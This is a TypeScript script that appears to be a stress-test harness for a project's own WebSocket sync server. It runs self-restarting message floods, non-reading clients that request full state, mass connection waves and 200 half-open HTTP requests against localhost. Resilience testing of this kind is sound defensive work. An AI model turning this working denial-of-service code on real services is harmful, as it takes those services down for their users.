/**
 * A process of its own that does harm, so that what it costs itself is not taken for what it costs the others:
 * `node attackers.ts URL COOKIE`. One floods, one never reads, 500 connect at once again and again, 200 stay half-open.
 */
import { connect } from 'node:net'
import { WebSocket } from 'ws'
import { MONTH } from './stock-client.ts'

const CROWD = 500
const HALF_OPEN = 200
const AGAIN_MS = 2_000
const [, , url = '', cookie = ''] = process.argv
const PATH = `/sync/${MONTH}`
/** a sync step 1 with an empty state vector: answered with the whole room */
const ASK_FOR_ALL = Uint8Array.of(0, 0, 1, 0)
/** an update that brings nothing */
const NOTHING = Uint8Array.of(0, 2, 2, 0, 0)

const open = (): WebSocket => {
  const socket = new WebSocket(url.replace('http', 'ws') + PATH, { headers: { cookie, origin: url } })
  socket.on('error', () => undefined)
  return socket
}

/** Sends as fast as the socket takes it, and comes back when it is thrown out. */
function flood(message: Uint8Array): void {
  const socket = open()
  const send = (): void => {
    if (socket.readyState !== socket.OPEN) return
    for (let n = 0; n < 200 && socket.bufferedAmount < 1_000_000; n++) socket.send(message)
    setImmediate(send)
  }
  socket.on('open', send)
  socket.on('close', () => flood(message))
}

function neverRead(): void {
  const socket = open()
  socket.on('open', () => {
    socket.pause()
    const again = setInterval(() => {
      if (socket.readyState === socket.OPEN) for (let n = 0; n < 100; n++) socket.send(ASK_FOR_ALL)
      else clearInterval(again)
    }, 50)
  })
  // thrown out: read on to the close, and come back
  setTimeout(() => {
    socket.terminate()
    neverRead()
  }, AGAIN_MS)
}

function crowd(): void {
  const sockets = Array.from({ length: CROWD }, open)
  for (const socket of sockets) socket.on('open', () => socket.send(ASK_FOR_ALL))
  setTimeout(() => {
    for (const socket of sockets) socket.terminate()
    crowd()
  }, AGAIN_MS)
}

function halfOpen(): void {
  const socket = connect(Number(new URL(url).port), '127.0.0.1')
  socket.on('connect', () => socket.write(`GET ${PATH} HTTP/1.1\r\nHost: x\r\n`))
  socket.on('error', () => undefined)
  socket.on('close', halfOpen)
}

flood(NOTHING)
flood(ASK_FOR_ALL)
neverRead()
crowd()
for (let n = 0; n < HALF_OPEN; n++) halfOpen()
process.stdout.write('attacking\n')
